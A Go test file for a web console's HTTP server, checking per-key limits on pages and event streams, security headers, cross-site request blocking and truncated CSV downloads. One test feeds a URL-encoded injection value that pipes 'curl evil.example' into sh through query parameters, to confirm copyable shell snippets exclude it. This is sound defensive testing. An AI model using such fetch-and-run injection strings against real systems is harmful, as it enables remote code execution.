package console

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
)

// as makes a request with a session of its own of a key.
func (s *site) as(key, path string) *http.Request {
	r := httptest.NewRequest("GET", "http://node.example"+Prefix+path, nil)
	r.AddCookie(&http.Cookie{Name: cookieName, Value: s.sessions.add(r, aws.Credentials{AccessKeyID: key, SecretAccessKey: "s"})})
	return r
}

// TestPagesAreBounded has one key ask for more pages at once than it may, which the node
// takes long to make: others' are made meanwhile, and its own wait and are told so.
func TestPagesAreBounded(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		going := map[string]int{} // read when all are blocked
		slow := make(chan struct{})
		begin := make(chan string, 1000)
		s := newSite(t, func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path == "/alcove/v1/audit" {
				_, key, _ := strings.Cut(r.Header.Get("Authorization"), "Credential=")
				key, _, _ = strings.Cut(key, "/")
				begin <- key
				<-slow
			}
			anyKey(w, r)
		})
		var answers []*httptest.ResponseRecorder
		ask := func(key string) {
			w := httptest.NewRecorder()
			answers = append(answers, w)
			r := s.as(key, "access/audit")
			go s.ServeHTTP(w, r)
		}
		for range 3 * seatsOfKey {
			ask("greedy")
		}
		ask("modest")
		synctest.Wait()
		for range len(begin) {
			going[<-begin]++
		}
		if going["greedy"] != seatsOfKey || going["modest"] != 1 {
			t.Errorf("pages that are made: %v", going)
		}
		time.Sleep(seatTime + time.Second)
		synctest.Wait()
		refused := 0
		for _, w := range answers {
			if w.Code == http.StatusServiceUnavailable && strings.Contains(w.Body.String(), "Too much at once") {
				refused++
			}
		}
		if refused != 2*seatsOfKey {
			t.Errorf("%d were told to wait, of %d", refused, 2*seatsOfKey)
		}
		close(slow)
		synctest.Wait()
		w := httptest.NewRecorder()
		s.ServeHTTP(w, s.as("greedy", "access/audit"))
		if w.Code != http.StatusOK || len(s.seats) != 0 {
			t.Errorf("afterwards: %d, %d places taken", w.Code, len(s.seats))
		}
	})
}

// watcher is who looks at a stream of events.
type watcher struct {
	*httptest.ResponseRecorder
	leave context.CancelFunc
	done  bool
}

// TestStreamsAreShared has a few keys open all the streams that there are: who comes
// then has one all the same, and a key alone has no more than its own.
func TestStreamsAreShared(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		s := newSite(t, anyKey)
		var all []*watcher
		watch := func(key string) *watcher {
			w := &watcher{ResponseRecorder: httptest.NewRecorder()}
			r := s.as(key, "floor/events")
			ctx, cancel := context.WithCancel(t.Context())
			w.leave = cancel
			all = append(all, w)
			go func() { s.ServeHTTP(w, r.WithContext(ctx)); w.done = true }()
			synctest.Wait()
			return w
		}
		greedy := []string{"a", "b", "c", "d", "e", "f", "g"}
		if streamsOfKey*len(greedy) < maxStreams {
			t.Fatal("the test has too few keys")
		}
		for _, key := range greedy {
			for range streamsOfKey {
				watch(key)
			}
		}
		if w := watch("a"); !w.done || w.Code != http.StatusTooManyRequests {
			t.Errorf("one more than a key may have: %d, ended %v", w.Code, w.done)
		}
		if n := s.streams.Taken(); n != maxStreams {
			t.Errorf("%d streams are open", n)
		}
		w := watch("modest")
		if w.done || w.Code != http.StatusOK {
			t.Errorf("whoever came last: %d %s", w.Code, w.Body)
		}
		lost := 0
		for _, w := range all {
			if w.done && w.Code == http.StatusOK && strings.Contains(w.Body.String(), "event: problem\ndata: {\"title\":\"Too many live pages are open\"") {
				lost++
			}
		}
		if lost == 0 {
			t.Error("nobody was told that a stream is another's now")
		}
		for _, w := range all {
			w.leave()
		}
		synctest.Wait()
		if n := s.streams.Taken(); n != 0 {
			t.Errorf("%d places are taken by nobody", n)
		}
	})
}

// TestEveryAnswerHasItsHeaders asks for all kinds of answers: none may be framed, sniffed
// or kept, or run what stands in it.
func TestEveryAnswerHasItsHeaders(t *testing.T) {
	s := newSite(t, anyKey)
	want := map[string]string{"Content-Security-Policy": policy, "X-Content-Type-Options": "nosniff", "Referrer-Policy": "same-origin",
		"Cross-Origin-Opener-Policy": "same-origin", "Cross-Origin-Resource-Policy": "same-origin", "Cache-Control": "no-store"}
	asset, err := s.assets.path("app.js")
	if err != nil {
		t.Fatal(err)
	}
	look := func(method, path string) {
		t.Helper()
		r := s.ask(method, path, nil)
		for name, value := range want {
			got := r.Header.Get(name)
			if name == "Cache-Control" && r.StatusCode == http.StatusOK && strings.HasPrefix(path, "static/") {
				value = "public, max-age=31536000, immutable"
			}
			if got != value {
				t.Errorf("%s %s, %s: %s is %q", method, path, r.Status, name, got)
			}
		}
	}
	for _, signedIn := range []bool{false, true} {
		for _, path := range []string{"", "signin", "floor", "functions/f", "usage.csv", "nowhere", "signout", "static/x/none.js", strings.TrimPrefix(asset, Prefix), "logs//x", "../x", "functions/f/../.."} {
			look("GET", path)
		}
		for _, path := range []string{"signin", "functions/f/delete", "nowhere", "floor"} {
			look("POST", path)
		}
		look("DELETE", "floor")
		if !signedIn {
			s.signIn(t)
		}
	}
}

// TestPagesAreNotForOthersPages has a page of the same site, whose requests carry the
// cookie, ask for pages and streams for itself; a link leads here all the same.
func TestPagesAreNotForOthersPages(t *testing.T) {
	asked := 0
	s := newSite(t, func(w http.ResponseWriter, r *http.Request) { asked++; anyKey(w, r) })
	s.signIn(t)
	asked = 0
	from := func(site, mode, dest string) func(*http.Request) {
		return func(r *http.Request) {
			// Of http: pages; the cookie is that of a node without TLS.
			r.Host = "127.0.0.1:4566"
			r.Header.Set("Sec-Fetch-Site", site)
			r.Header.Set("Sec-Fetch-Mode", mode)
			r.Header.Set("Sec-Fetch-Dest", dest)
		}
	}
	for _, path := range []string{"floor", "floor/events", "logs/events?function=f", "functions/f/state", "usage.csv", "functions/f/code"} {
		for _, site := range []string{"same-site", "cross-site"} {
			for _, how := range [][2]string{{"no-cors", "image"}, {"cors", "empty"}, {"navigate", "iframe"}, {"no-cors", "script"}, {"navigate", "object"}} {
				if r := s.ask("GET", path, nil, from(site, how[0], how[1])); r.StatusCode != http.StatusForbidden || asked != 0 {
					t.Errorf("%s for %s, %v: %s, %d requests", path, site, how, r.Status, asked)
				}
			}
		}
	}
	if r := s.ask("GET", "floor", nil, from("same-site", "navigate", "document")); r.StatusCode != http.StatusOK {
		t.Errorf("a link: %s", r.Status)
	}
}

// TestLinksPutNothingIntoCommands opens links that somebody else wrote: what a page gives
// to copy into a shell has nothing of them but a function's name.
func TestLinksPutNothingIntoCommands(t *testing.T) {
	s := newSite(t, anyKey)
	s.signIn(t)
	for _, page := range []string{"egress?edit=function&", "egress?", "floor?", "logs?", "metrics?", "tenants?", "usage?", "access/audit?", "functions?", "functions/f?", "functions/f/queue?"} {
		r := s.ask("GET", page+"function=x%3Bcurl+evil.example%7Csh&tenant=x%3Bcurl+evil.example%7Csh&search=x%3Bcurl+evil.example%7Csh&to=x%3Bcurl+evil.example%7Csh&by=x%3Bcurl+evil.example%7Csh", nil)
		for _, code := range strings.Split(body(t, r), "<pre tabindex=\"0\"><code>")[1:] {
			if code, _, _ = strings.Cut(code, "</code>"); strings.Contains(code, "evil.example") {
				t.Errorf("%s gives %s to copy", page, code)
			}
		}
	}
}

// TestCutOffBillIsSeen breaks off what a download is made of.
func TestCutOffBillIsSeen(t *testing.T) {
	s := newSite(t, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/alcove/v1/usage" {
			anyKey(w, r)
			return
		}
		_, _ = io.WriteString(w, "tenant,cost\nblue,1\n")
		if r.URL.Query().Get("from") != "" {
			panic(http.ErrAbortHandler)
		}
	})
	s.signIn(t)
	if got := body(t, s.ask("GET", "usage.csv", nil)); got != "tenant,cost\nblue,1\n" {
		t.Errorf("the whole bill is %q", got)
	}
	defer func() {
		if p := recover(); p != http.ErrAbortHandler {
			t.Errorf("a bill that broke off ends with %v", p)
		}
	}()
	s.ask("GET", "usage.csv?from=2026-01-01", nil)
}
